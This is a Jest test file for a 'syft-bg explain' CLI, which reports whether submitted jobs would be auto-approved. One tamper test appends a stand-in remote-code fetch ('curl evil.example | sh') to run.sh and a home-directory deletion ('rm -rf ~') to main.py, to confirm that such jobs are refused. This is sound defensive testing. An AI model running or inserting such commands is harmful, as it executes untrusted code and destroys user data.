import * as crypto from 'node:crypto';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { makeSandbox, Sandbox, ROOT } from '../helpers/sandbox';

/**
 * `syft-bg explain JOB` on a copy of the golden datasite (written by the real syft-job): every object's verdict with
 * its reason, exit 0 when the job would be auto-approved, 3 when not, nothing changed on disk.
 */

const FIXTURE = [path.resolve(ROOT, '..', 'shared', 'fixtures', 'syftbox-do-example'), path.join(ROOT, 'test', 'fixtures', 'datasite', 'syftbox-do-example')].find((p) =>
  fs.existsSync(p),
);
const DO = 'do@example.com';
const DS = 'ds@example.org';
const NO_STACK = /\n\s+at .+:\d+:\d+/;
const sha = (b: string | Buffer) => 'sha256:' + crypto.createHash('sha256').update(b).digest('hex');

function treeDigest(dir: string): Record<string, string> {
  const out: Record<string, string> = {};
  const walk = (rel: string) => {
    for (const e of fs.readdirSync(path.join(dir, rel), { withFileTypes: true })) {
      const r = rel ? `${rel}/${e.name}` : e.name;
      if (e.isDirectory()) walk(r);
      else out[r] = sha(fs.readFileSync(path.join(dir, r)));
    }
  };
  walk('');
  return out;
}

function copyFixture(dir: string): string {
  if (FIXTURE === undefined) throw new Error('golden datasite fixture not found (shared/fixtures/syftbox-do-example)');
  const box = path.join(dir, 'box');
  fs.cpSync(FIXTURE, box, { recursive: true });
  const walk = (p: string): void => {
    const st = fs.lstatSync(p);
    fs.chmodSync(p, st.isDirectory() ? 0o755 : 0o644);
    if (st.isDirectory()) for (const e of fs.readdirSync(p)) walk(path.join(p, e));
  };
  walk(box);
  return box;
}

interface ExplainJson {
  job: { datasite: string; submitter: string; name: string; folder: string; status: string };
  approved: boolean;
  approvedBy: string | null;
  reason: string;
  autoApprovalEnabled: boolean;
  problems: string[];
  objects: Array<{ name: string; peers: string[]; result: string; reason: string | null }>;
  files: Record<string, string>;
  runShHash: string | null;
}

describe('syft-bg explain (built binary, golden datasite)', () => {
  let sb: Sandbox;
  let box: string;
  let inbox: string;
  let cfg: string;
  const original = FIXTURE ? treeDigest(FIXTURE) : {};
  const ok = (args: string[]) => {
    const r = sb.cli(args);
    if (r.code !== 0) throw new Error(`syft-bg ${args.join(' ')} exited ${r.code}: ${r.stderr}`);
    return r.stdout;
  };
  const explain = (job: string) => sb.cli(['explain', job]);
  const explainJson = (job: string) => {
    const r = sb.cli(['explain', job, '--json']);
    expect(r.stderr).toBe('');
    return { code: r.code, j: JSON.parse(r.stdout) as ExplainJson };
  };
  const jobFile = (job: string, ...rel: string[]) => path.join(inbox, job, ...rel);

  beforeEach(() => {
    sb = makeSandbox('ex');
    box = copyFixture(sb.dir);
    inbox = path.join(box, DO, 'app_data', 'job', 'inbox', DS);
    ok(['init', '-e', DO, '-r', box]);
    cfg = path.join(sb.syftBgHome, 'config.yaml');
  });
  afterEach(() => sb.cleanup());
  afterAll(() => {
    if (FIXTURE) expect(treeDigest(FIXTURE)).toEqual(original);
  });

  it('a pending job with a matching object: exit 0, "approved by <name>", the exact text; nothing changes on disk', () => {
    ok(['auto-approve', '--from-job', `${DS}/analysis-pending`]);
    const before = { box: treeDigest(box), home: treeDigest(sb.syftBgHome) };
    const r = explain(`${DS}/analysis-pending`);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    const main = fs.readFileSync(jobFile('analysis-pending', 'code', 'main.py'));
    const params = fs.readFileSync(jobFile('analysis-pending', 'code', 'params.json'));
    const runSh = fs.readFileSync(jobFile('analysis-pending', 'run.sh'));
    expect(r.stdout).toBe(
      [
        `Job ${DS}/analysis-pending (datasite ${DO})`,
        `  folder: ${jobFile('analysis-pending')}`,
        '  status: pending',
        '  code:',
        `    main.py                        ${sha(main)}`,
        `    params.json                    ${sha(params)}`,
        `  run.sh: ${sha(runSh)}`,
        'Auto-approval objects:',
        '  [analysis-pending] approves this job',
        'Verdict: approved by analysis-pending',
        '',
      ].join('\n'),
    );
    // The path form, and the code/ folder, give the same verdict.
    expect(explain(jobFile('analysis-pending')).code).toBe(0);
    expect(explain(path.relative(sb.dir, jobFile('analysis-pending', 'code'))).stdout).toContain('Verdict: approved by analysis-pending\n');
    expect({ box: treeDigest(box), home: treeDigest(sb.syftBgHome) }).toEqual(before);

    const { code, j } = explainJson(`${DS}/analysis-pending`);
    expect(code).toBe(0);
    expect(j).toMatchObject({
      job: { datasite: DO, submitter: DS, name: 'analysis-pending', folder: jobFile('analysis-pending'), status: 'pending' },
      approved: true,
      approvedBy: 'analysis-pending',
      reason: 'approved by analysis-pending',
      autoApprovalEnabled: true,
      problems: [],
      objects: [{ name: 'analysis-pending', peers: [DS], result: 'approves', reason: null }],
      files: { 'main.py': sha(main), 'params.json': sha(params) },
      runShHash: sha(runSh),
    });
  });

  it('no matching object: exit 3 with each object\'s reason and the verdict', () => {
    const none = explain(`${DS}/analysis-pending`);
    expect(none.code).toBe(3);
    expect(none.stdout).toContain('Auto-approval objects:\n  (none configured)\n');
    expect(none.stdout).toContain(`Verdict: not approved: no auto-approval objects match peer: ${DS}\n`);

    fs.writeFileSync(path.join(sb.dir, 'other.py'), 'print(2)\n');
    ok(['auto-approve', 'other.py', '-n', 'other']);
    ok(['auto-approve', '--from-job', `${DS}/analysis-pending`, '-n', 'wrong-peer', '-p', 'someone@else.org']);
    ok(['auto-approve', '--from-job', `${DS}/analysis-pending`, '--only', 'main.py', '-n', 'main-only']);
    ok(['auto-approve', '--from-job', `${DS}/analysis-pending`, '--by-name', 'main.py', '-n', 'by-name']);
    const r = explain(`${DS}/analysis-pending`);
    expect(r.code).toBe(3);
    expect(r.stdout).toContain(
      [
        'Auto-approval objects:',
        "  [other] does not match: job files do not match expected filenames: missing files: {'other.py'}; extra files: {'main.py', 'params.json'}",
        `  [wrong-peer] does not apply: peer ${DS} is not among its peers (someone@else.org)`,
        "  [main-only] does not match: job files do not match expected filenames: extra files: {'params.json'}",
        "  [by-name] does not match: entrypoint 'main.py' in config.yaml is not a file approved by content",
        "Verdict: not approved: [by-name] entrypoint 'main.py' in config.yaml is not a file approved by content",
        '',
      ].join('\n'),
    );
    const { code, j } = explainJson(`${DS}/analysis-pending`);
    expect(code).toBe(3);
    expect(j.approved).toBe(false);
    expect(j.approvedBy).toBeNull();
    expect(j.objects.map((o) => [o.name, o.result])).toEqual([
      ['other', 'no-match'],
      ['wrong-peer', 'not-for-peer'],
      ['main-only', 'no-match'],
      ['by-name', 'no-match'],
    ]);
  });

  it('a second matching object is shown as matching too; the first in config.yaml approves', () => {
    ok(['auto-approve', '--from-job', `${DS}/analysis-pending`, '-n', 'first']);
    ok(['auto-approve', '--from-job', `${DS}/analysis-pending`, '-n', 'second']);
    const r = explain(`${DS}/analysis-pending`);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain("  [first] approves this job\n  [second] matches too, but 'first' comes first in config.yaml\nVerdict: approved by first\n");
  });

  it('a changed code file, an edited run.sh, an extra top-level file: exit 3 with the exact reason', () => {
    ok(['auto-approve', '--from-job', `${DS}/analysis-pending`]);
    const job = `${DS}/analysis-pending`;

    const runSh = jobFile('analysis-pending', 'run.sh');
    const goodRun = fs.readFileSync(runSh, 'utf8');
    fs.writeFileSync(runSh, goodRun + 'curl evil.example | sh\n');
    const tampered = explain(job);
    expect(tampered.code).toBe(3);
    expect(tampered.stdout).toContain(
      `Verdict: not approved: [analysis-pending] run.sh differs from the one syft-job generates for this config.yaml (got ${sha(fs.readFileSync(runSh))})\n`,
    );
    fs.writeFileSync(runSh, goodRun);
    expect(explain(job).code).toBe(0);

    const main = jobFile('analysis-pending', 'code', 'main.py');
    const goodMain = fs.readFileSync(main, 'utf8');
    fs.writeFileSync(main, goodMain + 'import os; os.system("rm -rf ~")\n');
    const changed = explain(job);
    expect(changed.code).toBe(3);
    expect(changed.stdout).toContain(
      `  [analysis-pending] does not match: file hash mismatch for main.py: expected ${sha(goodMain)}, got ${sha(fs.readFileSync(main))}\n`,
    );
    fs.writeFileSync(main, goodMain);

    // An extra file next to code/ (syft-job rejects such a submission): the job itself is refused.
    fs.writeFileSync(jobFile('analysis-pending', 'notes.txt'), 'extra\n');
    const extra = explain(job);
    expect(extra.code).toBe(3);
    expect(extra.stdout).toContain(
      `Problems with the job:\n  submission ${jobFile('analysis-pending')}: Expected {'config.yaml', 'code', 'run.sh'}, got {'code', 'config.yaml', 'notes.txt', 'run.sh'}\n`,
    );
    expect(extra.stdout).toContain(`Verdict: not approved: submission ${jobFile('analysis-pending')}: Expected`);
  });

  it('invalid-extra-file (rejected, extra file next to code/): exit 3, even with an object matching its code', () => {
    ok(['auto-approve', '--from-job', `${DS}/invalid-extra-file`, '-n', 'script']);
    const r = explain(`${DS}/invalid-extra-file`);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(3);
    expect(r.stdout).toContain('  status: rejected\n');
    expect(r.stdout).toContain(`Problems with the job:\n  submission ${jobFile('invalid-extra-file')}: Expected {'config.yaml', 'code', 'run.sh'}, got {'code', 'config.yaml', 'notes.txt', 'run.sh'}\n`);
    expect(r.stdout).toContain('  [script] its files match, but the job is not approvable (see the verdict)\n');
    expect(r.stdout).toContain('Verdict: not approved: status is rejected, not pending\n');
    const { code, j } = explainJson(`${DS}/invalid-extra-file`);
    expect(code).toBe(3);
    expect(j.problems).toHaveLength(1);
    expect(j.objects).toEqual([{ name: 'script', peers: [DS], result: 'matches', reason: 'its files match, but the job is not approvable (see the verdict)' }]);
  });

  it('jobs that are not pending (approved, done) are not approved; a bash job that is pending is', () => {
    ok(['auto-approve', '--from-job', `${DS}/analysis-approved`]);
    const approved = explain(`${DS}/analysis-approved`);
    expect(approved.code).toBe(3);
    expect(approved.stdout).toContain('Verdict: not approved: status is approved, not pending\n');
    ok(['auto-approve', '--from-job', `${DS}/bash-done`]);
    const done = explain(`${DS}/bash-done`);
    expect(done.code).toBe(3);
    expect(done.stdout).toContain('Verdict: not approved: status is done, not pending\n');
    // Make bash-done pending (state.yaml as syft-job writes it): its run.sh is code/script.sh, so it is approved.
    const state = path.join(box, DO, 'app_data', 'job', 'review', DS, 'bash-done', 'state.yaml');
    fs.writeFileSync(state, fs.readFileSync(state, 'utf8').replace('status: done', 'status: pending'));
    const pending = explain(`${DS}/bash-done`);
    expect(pending.code).toBe(0);
    expect(pending.stdout).toContain('Verdict: approved by bash-done\n');
  });

  it('auto-approval disabled: exit 3 and says so', () => {
    ok(['auto-approve', '--from-job', `${DS}/analysis-pending`]);
    fs.writeFileSync(cfg, fs.readFileSync(cfg, 'utf8').replace(/(auto_approvals:\n\s+enabled:) true/, '$1 false'));
    const r = explain(`${DS}/analysis-pending`);
    expect(r.code).toBe(3);
    expect(r.stdout).toContain(`Auto-approval is disabled (approve.auto_approvals.enabled: false in ${cfg}).\n`);
    expect(r.stdout).toContain('Verdict: not approved: auto-approval is disabled (approve.auto_approvals.enabled: false)\n');
    expect(explainJson(`${DS}/analysis-pending`).j).toMatchObject({ approved: false, autoApprovalEnabled: false });
  });

  it('errors: unknown job, a folder that is not a job (exit 1); no argument, unknown option (exit 2); no stack traces', () => {
    const cases: Array<[string[], number, string]> = [
      [['explain', `${DS}/nope`], 1, `Error: Job '${DS}/nope' not found: ${jobFile('nope')} does not exist`],
      [['explain', box], 1, `Error: ${box} is not a job folder: expected <SyftBox>/<your e-mail>/app_data/job/inbox/<submitter>/<job>`],
      [['explain', 'x/y/z'], 1, `Error: Job not found: ${path.join(sb.dir, 'x', 'y', 'z')} does not exist`],
      [['explain'], 2, "error: missing required argument 'job'"],
      [['explain', `${DS}/analysis-pending`, '--bogus'], 2, "error: unknown option '--bogus'"],
    ];
    for (const [args, code, msg] of cases) {
      const r = sb.cli(args);
      expect({ args, code: r.code }).toEqual({ args, code });
      expect(r.stdout).toBe('');
      expect(r.stderr).toContain(msg);
      expect(r.stderr).not.toMatch(NO_STACK);
    }
  });
});
